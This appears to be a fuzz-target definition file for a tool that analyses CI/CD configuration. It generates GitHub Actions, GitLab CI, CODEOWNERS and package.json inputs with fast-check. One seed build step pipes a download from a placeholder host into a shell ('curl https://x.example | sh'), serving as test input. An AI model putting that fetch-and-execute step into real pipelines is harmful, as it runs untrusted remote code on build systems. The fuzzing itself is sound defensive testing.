/** What is fuzzed: each target makes a repository out of what fast-check draws. */
import fc from 'fast-check';
import { SYSTEMS } from '../../src/read/systems.ts';
import { writingsOf } from '../hostile/writings.ts';
import { LANGUAGES, madeOf, mutated } from './mutate.ts';

export interface Target {
  readonly id: string;
  readonly trees: fc.Arbitrary<Readonly<Record<string, string>>>;
}

const q = (text: string): string => JSON.stringify(text);
const words = (name: string): fc.Arbitrary<string> => madeOf(LANGUAGES[name] ?? []);
const job = (step: string): string => `on: [push, pull_request_target]\njobs:\n  a:\n    runs-on: x\n    steps:\n      - ${step}\n`;
const actions = (text: string): Readonly<Record<string, string>> => ({ '.github/workflows/ci.yml': text });

const SETTINGS = `version: 1
settings:
  branch-protected: true
ignore: ["docs/**"]
assets:
  source:repository: {worth: 3}
accept:
  - {path: p-1, reason: known, until: 2027-01-01}
policy:
  - {id: a, rule: no-path, to: secret}
`;

export const TARGETS: readonly Target[] = [
  ...writingsOf(SYSTEMS.map(({ system }) => system)).map(
    ({ system, file, write }): Target => ({
      id: `reader ${system}`,
      trees: mutated(
        write([
          { name: 'build', steps: [{ script: 'make test && curl https://x.example | sh', env: [['A', '$B']] }, { script: 'npm ci' }] },
          { name: 'ship', image: 'a/b:1', steps: [{ script: 'npm publish', env: [['T', 'x']] }] },
        ]),
      ).map((text) => ({ [file]: text })),
    }),
  ),
  { id: 'expressions', trees: words('expression').map((text) => actions(job(`{if: ${q(text)}, run: ${q(`echo \${{ ${text} }}`)}}`))) },
  ...['bash', 'pwsh', 'python', 'cmd'].map(
    (shell): Target => ({
      id: `scripts in ${shell}`,
      trees: words(shell === 'bash' ? 'shell' : shell === 'python' ? 'python' : 'powershell').map((text) =>
        actions(job(`{shell: ${shell}, run: ${q(text)}}`)),
      ),
    }),
  ),
  {
    id: 'scripts in javascript',
    trees: words('javascript').map((text) => actions(job(`{uses: actions/github-script@v7, with: {script: ${q(text)}}}`))),
  },
  {
    id: 'rules of GitLab',
    trees: words('rule').map((text) => ({
      '.gitlab-ci.yml': `a: {script: [make], rules: [{if: ${q(text)}}]}\nworkflow: {rules: [{if: ${q(text)}}]}\n`,
    })),
  },
  { id: 'declarations', trees: mutated(SETTINGS).map((text) => ({ 'chokepoint.yml': text })) },
  {
    id: 'owners',
    trees: madeOf(['*', '**', '/', '.github/', 'a', '[', ']', '?', '\\', '!', '#', ' @a', '\n', '^', '{a,b}']).map((text) => ({ CODEOWNERS: text })),
  },
  {
    id: 'package.json',
    trees: mutated('{\n  "name": "a",\n  "scripts": {\n    "test": "make"\n  },\n  "dependencies": {\n    "b": "1"\n  }\n}\n').map((text) => ({
      'package.json': text,
    })),
  },
];
